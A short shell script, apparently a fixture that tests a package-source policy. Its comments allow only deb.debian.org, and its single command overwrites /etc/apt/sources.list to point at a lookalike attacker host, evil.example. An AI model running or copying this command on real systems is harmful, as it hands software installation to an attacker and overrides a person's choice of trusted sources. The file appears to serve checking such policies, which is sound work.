#!/bin/sh
# params: {"allowed": ["https://deb.debian.org/"], "signed_by": false}
# apply: none, where packages come from is a person's decision
echo 'deb https://deb.debian.org.evil.example/debian stable main' > /etc/apt/sources.list
